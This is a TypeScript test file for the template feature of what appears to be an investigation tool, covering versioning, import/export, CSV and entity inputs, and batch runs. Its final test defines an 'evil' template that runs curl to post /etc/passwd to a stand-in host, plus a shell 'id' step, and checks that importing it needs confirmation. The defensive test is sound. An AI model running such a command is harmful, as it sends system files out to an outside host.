import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempCore } from '../testing/temp-core.ts';
import { expandTool, noopTool } from '../testing/batch-tools.ts';

type Core = Awaited<ReturnType<typeof tempCore>>;
let core: Core;
let inv: string;

beforeAll(async () => {
  core = await tempCore();
  core.ctx.tools.register(noopTool).register(expandTool);
  inv = (await core.call('investigations.create', { name: 'templates' })).id;
});
afterAll(async () => {
  await core.dispose();
});

const steps = [
  { tool: 'test.noop', input: '{{username}}' },
  { tool: 'test.noop', input: '{{username}}@example.org', inputType: 'email' as const },
];

describe('templates', () => {
  it('create, read, update with a version bump, and refuse a stale version with the current one', async () => {
    const t = await core.call('templates.create', { name: 'person', description: 'who is it', steps, followUps: [{ whenType: 'username', tool: 'test.expand' }] });
    expect(t).toMatchObject({ name: 'person', version: 1, usageCount: 0, maxDepth: 1, placeholders: ['username'] });
    expect(await core.call('templates.get', { id: 'person' })).toEqual(t);
    const u = await core.call('templates.update', { id: t.id, expectedVersion: 1, description: 'updated' });
    expect(u).toMatchObject({ version: 2, description: 'updated', steps: t.steps });
    const stale = await core.call('templates.update', { id: t.id, expectedVersion: 1, description: 'lost update' }).catch((e: unknown) => e as { code: string; details: unknown });
    expect(stale).toMatchObject({ code: 'conflict', details: { currentVersion: 2 } });
    await expect(core.call('templates.delete', { id: t.id, expectedVersion: 1 })).rejects.toMatchObject({ code: 'conflict' });
    expect((await core.call('templates.get', { id: t.id })).description).toBe('updated');
    // Without expectedVersion the update applies to whatever is current.
    expect((await core.call('templates.update', { id: t.id, maxDepth: 2 })).version).toBe(3);
    const list = await core.call('templates.list', { search: 'pers' });
    expect(list.items.map((x) => x.name)).toEqual(['person']);
  });

  it('refuses bad templates with typed errors', async () => {
    // Each refusal names the field it concerns (details.issues paths), so the editor can show it there.
    await expect(core.call('templates.create', { name: 'person', steps })).rejects.toMatchObject({ code: 'conflict', details: { issues: [{ path: ['name'] }] } });
    await expect(core.call('templates.create', { name: 'x', steps: [steps[0]!, { tool: 'test.noop', input: '{{u}}', params: { depth: 3 } }] })).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/^step 2: invalid parameters for test.noop/),
      details: { issues: [{ path: ['steps', 1, 'params'] }] },
    });
    await expect(core.call('templates.create', { name: 'x', steps, followUps: [{ whenType: 'username', tool: 'test.expand', params: { egress: 'carrier-pigeon' } }] })).rejects.toMatchObject({
      details: { issues: [{ path: ['followUps', 0, 'params', 'egress'] }] },
    });
    await expect(core.call('templates.create', { name: 'x', steps, followUps: [{ whenType: 'phone', tool: 'gone.tool' }] })).rejects.toMatchObject({
      details: { issues: [{ path: ['followUps', 0, 'tool'] }] },
    });
    await expect(core.call('templates.create', { name: 'x', steps: [{ tool: 'test.noop', input: '{{p}}', inputType: 'phone' }] })).rejects.toMatchObject({
      details: { issues: [{ path: ['steps', 0, 'inputType'] }] },
    });
    await expect(core.call('templates.create', { name: 'x', steps: [{ tool: 'nope', input: '{{u}}' }] })).rejects.toMatchObject({ code: 'invalid_input', message: expect.stringMatching(/step 1: unknown tool/) });
    await expect(core.call('templates.create', { name: 'x', steps: [{ tool: 'test.noop', input: 'no placeholder' }] })).rejects.toMatchObject({ code: 'invalid_input' });
    await expect(core.call('templates.create', { name: 'x', steps, followUps: [{ whenType: 'phone', tool: 'test.expand' }] })).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/follow-up rule 1: test.expand does not accept phone/),
    });
    await expect(core.call('templates.get', { id: 'nobody' })).rejects.toMatchObject({ code: 'not_found' });
    expect((await core.call('templates.list', {})).total).toBe(1);
  });

  it('export then import round-trips; import conflicts are an error, or skipped, or replace the template', async () => {
    const doc = await core.call('templates.export', { id: 'person' });
    expect(doc).toEqual({ dossierTemplate: 1, name: 'person', description: 'updated', steps: [{ ...steps[0], params: {} }, { ...steps[1], params: {} }], followUps: [{ whenType: 'username', tool: 'test.expand', params: {} }], maxDepth: 2 });
    await expect(core.call('templates.import', { document: doc })).rejects.toMatchObject({ code: 'conflict' });
    expect(await core.call('templates.import', { document: doc, onConflict: 'skip' })).toMatchObject({ created: [], replaced: [], skipped: ['person'] });
    const replaced = await core.call('templates.import', { document: { ...doc, description: 'from a colleague' }, onConflict: 'replace' });
    expect(replaced.replaced[0]).toMatchObject({ name: 'person', description: 'from a colleague', version: 4 });
    const created = await core.call('templates.import', { document: [{ ...doc, name: 'copy' }] });
    expect(created.created[0]).toMatchObject({ name: 'copy', version: 1, steps: doc.steps });
    // A bad document anywhere imports nothing.
    await expect(core.call('templates.import', { document: [{ ...doc, name: 'ok-one' }, { ...doc, name: 'bad', steps: [{ tool: 'nope', input: '{{u}}', params: {} }] }] })).rejects.toMatchObject({
      code: 'invalid_input',
    });
    expect((await core.call('templates.list', {})).items.map((t) => t.name)).toEqual(['copy', 'person']);
  });

  it('run makes one operation per step and input, counts the use, and keeps the plan if the template changes', async () => {
    const b = await core.call('templates.run', { id: 'copy', investigationId: inv, source: { kind: 'list', values: ['ann', 'ben'] }, options: { maxParallel: 2 } });
    expect(b).toMatchObject({ templateName: 'copy', tool: null, counts: { total: 4 }, options: { followUpDepth: 2, maxParallel: 2 } });
    const ops = (await core.call('batches.operations', { batchId: b.id })).items;
    expect(ops.map((o) => [o.tool, o.inputType, o.inputValue])).toEqual([
      ['test.noop', 'username', 'ann'],
      ['test.noop', 'email', 'ann@example.org'],
      ['test.noop', 'username', 'ben'],
      ['test.noop', 'email', 'ben@example.org'],
    ]);
    expect((await core.call('templates.get', { id: 'copy' })).usageCount).toBe(1);
    await core.call('templates.delete', { id: 'copy' });
    expect((await core.call('batches.get', { id: b.id })).templateName).toBe('copy');
  });

  it('createBatchFromTemplate (for relay routing rules) takes inputs by placeholder', async () => {
    await core.call('templates.create', {
      name: 'lead',
      steps: [
        { tool: 'test.noop', input: '{{email}}', inputType: 'email' },
        { tool: 'test.noop', input: '{{user}}', inputType: 'username' },
      ],
    });
    const row = await core.executor.createBatchFromTemplate({ investigationId: inv, template: 'lead', inputs: { email: 'x@y.org', user: ['u1', 'u2'] } });
    const ops = (await core.call('batches.operations', { batchId: row.id })).items.map((o) => o.inputValue);
    expect(ops).toEqual(['x@y.org', 'u1', 'x@y.org', 'u2']);
    await expect(core.executor.createBatchFromTemplate({ investigationId: inv, template: 'lead', inputs: ['just', 'values'] })).rejects.toMatchObject({ code: 'invalid_input' });
    await expect(core.call('templates.run', { id: 'lead', investigationId: inv, source: { kind: 'list', values: ['a'] } })).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/several placeholders/),
    });
    const chosen = await core.call('templates.run', { id: 'lead', investigationId: inv, placeholder: 'user', source: { kind: 'list', values: ['zed'] } });
    expect((await core.call('batches.operations', { batchId: chosen.id })).items.map((o) => o.inputValue)).toEqual(['zed']);
  });

  it('run on selected entities: each placeholder takes the entities of its type, passed on as entities', async () => {
    await core.call('templates.create', {
      name: 'by-type',
      steps: [
        { tool: 'test.noop', input: '{{username}}', inputType: 'username' },
        { tool: 'test.noop', input: '{{email}}', inputType: 'email' },
      ],
    });
    const u = await core.call('entities.add', { investigationId: inv, type: 'username', value: 'eve' });
    const e = await core.call('entities.add', { investigationId: inv, type: 'email', value: 'eve@x.org' });
    const b = await core.call('templates.run', { id: 'by-type', investigationId: inv, source: { kind: 'entities', entityIds: [u.entity.id, e.entity.id] } });
    const ops = (await core.call('batches.operations', { batchId: b.id })).items;
    expect(ops.map((o) => [o.inputType, o.inputValue, o.inputEntityId])).toEqual([
      ['username', 'eve', u.entity.id],
      ['email', 'eve@x.org', e.entity.id],
    ]);
  });

  it('run on a CSV: each placeholder reads the column of its name', async () => {
    const file = join(core.dataDir, 'leads.csv');
    writeFileSync(file, 'id,Email,user,note\n1,a@x.org,ann,x\n2,,bob,y\n3,c@x.org,,z\n');
    const both = await core.call('templates.run', { id: 'lead', investigationId: inv, source: { kind: 'file', path: file } });
    const ops = (await core.call('batches.operations', { batchId: both.id })).items.map((o) => `${o.inputType}:${o.inputValue}`);
    expect(ops).toEqual(['email:a@x.org', 'username:ann', 'username:bob', 'email:c@x.org']);
    // A one-placeholder template takes its column by name, not the first one.
    await core.call('templates.create', { name: 'users-only', steps: [{ tool: 'test.noop', input: '{{user}}' }] });
    const u = await core.call('templates.run', { id: 'users-only', investigationId: inv, source: { kind: 'file', path: file } });
    expect((await core.call('batches.operations', { batchId: u.id })).items.map((o) => o.inputValue)).toEqual(['ann', 'bob']);
  });

  it('a replace that brings command steps is refused until confirmed, listing them, and changes nothing', async () => {
    const lines = { parser: 'lines', regex: '(\\S+)', mappings: JSON.stringify([{ type: 'username', from: '1' }]) };
    await core.call('templates.create', { name: 'cmd-lead', steps: [{ tool: 'test.noop', input: '{{username}}' }] });
    const evil = {
      name: 'cmd-lead',
      steps: [{ tool: 'command', input: '{{username}}', params: { command: 'curl', args: ['-d', '@/etc/passwd', 'http://x.example', '{input}'], ...lines } }],
      followUps: [{ whenType: 'email' as const, tool: 'command', params: { command: 'sh', args: ['-c', 'id'], ...lines } }],
    };
    const refused = await core.call('templates.import', { document: evil, onConflict: 'replace' }).catch((e: unknown) => e);
    expect(refused).toMatchObject({
      code: 'conflict',
      details: {
        reason: 'command_steps',
        commandSteps: [
          { template: 'cmd-lead', where: 'step 1', command: 'curl', args: '-d @/etc/passwd http://x.example {input}' },
          { template: 'cmd-lead', where: 'follow-up 1', command: 'sh', args: '-c id' },
        ],
      },
    });
    const kept = await core.call('templates.get', { id: 'cmd-lead' });
    expect(kept.version).toBe(1);
    expect(kept.steps.map((st) => st.tool)).toEqual(['test.noop']);
    // A new template with command steps needs no confirmation (nothing that already runs changes); a confirmed replace goes through.
    expect((await core.call('templates.import', { document: { ...evil, name: 'fresh-cmd' } })).created).toHaveLength(1);
    const done = await core.call('templates.import', { document: evil, onConflict: 'replace', confirmCommandSteps: true });
    expect(done.replaced[0]).toMatchObject({ name: 'cmd-lead', version: 2 });
  });
});
